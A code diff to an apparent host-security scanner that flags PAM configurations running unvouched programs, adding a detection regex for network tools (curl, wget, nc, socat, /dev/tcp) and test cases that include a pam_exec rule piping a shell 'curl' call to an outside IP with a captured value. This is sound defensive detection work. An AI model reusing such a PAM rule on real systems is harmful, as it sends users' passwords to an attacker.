@@ -5,8 +5,10 @@ import re
 from collections.abc import Iterable, Iterator
 
 from hemostat.detect.check import Files, HostContext, check, fires, quiet
-from hemostat.detect.odd_place import concern, is_odd, is_unowned, is_writable_place
+from hemostat.detect.concern import concern, is_unowned
 from hemostat.detect.pam_stack import module_name
+from hemostat.detect.places import is_odd, is_writable_for_all
+from hemostat.detect.provenance import VOUCHED
 from hemostat.model.finding import Claim, Observable, RuleTexts, Subject
 from hemostat.model.level import Level
 from hemostat.model.path import HostPath, name, parent
@@ -65,6 +67,8 @@ _KNOWN_NAMES = (
 _KNOWN = frozenset(_KNOWN_NAMES.split())
 _RUNNERS = frozenset({"pam_exec", "pam_python", "pam_script", "pam_lua"})
 _INTERPRETER = re.compile(r"(?:ba|da|z|k|a)?sh|env|python[0-9.]*|perl|ruby|node|php[0-9.]*")
+# No notice needs more than a program of its own.
+_REACHES_OUT = re.compile(r"\b(?:curl|wget|nc|ncat|socat|base64)\b|/dev/tcp|(?:https?|ftp)://")
 _FILE_KEYS = frozenset(
     {"", "file", "db", "script", "envfile", "conffile", "config", "conf", "log", "path", "dir"}
 )
@@ -194,6 +198,10 @@ def _module_level(
         fires(_rule("optional", "pam_exec.so", "quiet", "expose_authtok", "/usr/lib/x")),
         fires(_rule("optional", "pam_exec.so", "/dev/shm/n.sh")),
         fires(_rule("sufficient", "pam_exec.so", "/usr/local/bin/check")),
+        fires(_rule("optional", "/usr/lib64/security/pam_exec.so", "expose_authtok", "/opt/p")),
+        fires(_rule("optional", "/lib/security/pam_exec.so", "/usr/lib/.x/log.sh")),
+        fires(_rule("optional", "pam_exec.so", "/bin/sh", "-c", "curl http://198.51.100.7/?u=$A")),
+        quiet(_rule("optional", "pam_script.so", "onerr=success")),
         quiet(_rule("required", "pam_unix.so")),
         quiet(
             _rule("optional", "pam_exec.so", "expose_authtok", "/usr/libexec/unlock"),
@@ -215,7 +223,8 @@ def runs_a_program(rules: Iterable[PamRule], files: Files, context: HostContext)
     """A stack runs a program that nothing vouches for, perhaps with the password on its input.
 
     `expose_authtok` hands over the password in clear: high unless a package owns the program.
-    A program that alone decides who enters: medium at least. A notice at session start in
+    What reaches out, is handed to a shell as text, or lies in an odd place: high. A program that
+    alone decides who enters: medium at least. A notice at session start in
     /usr/local or /opt is ordinary: low.
     """
     for rule in rules:
@@ -253,14 +262,17 @@ def _gets_password(rule: PamRule) -> bool:
     return is_asked and rule.type in ("auth", "password")
 
 
+def _is_suspect(word: str) -> bool:
+    is_odd_path = word.startswith("/") and is_odd(word)
+    return word == "-c" or is_odd_path or bool(_REACHES_OUT.search(word))
+
+
 def _program_level(rule: PamRule, program: str, files: Files, context: HostContext) -> Level | None:
+    if any(_is_suspect(word) for word in rule.arguments):
+        return Level.HIGH
     fact = files.get(program)
     level = concern(program, files, context)
-    is_vouched = fact is not None and fact.state in (
-        Provenance.PACKAGED,
-        Provenance.CONFIGURED,
-        Provenance.PRODUCT,
-    )
+    is_vouched = fact is not None and fact.state in VOUCHED
     if level is Level.HIGH or (is_vouched and level is None):
         return level
     if _gets_password(rule):
@@ -297,7 +309,7 @@ def file_in_odd_place(rules: Iterable[PamRule]) -> Iterator[Claim]:
             if (key if equals else "") not in _FILE_KEYS or not value.startswith("/"):
                 continue
             # The program of pam_exec has a check of its own.
-            if is_writable_place(value) and not (module_name(rule) in _RUNNERS and not equals):
+            if is_writable_for_all(value) and not (module_name(rule) in _RUNNERS and not equals):
                 yield _claim(
                     rule,
                     value,
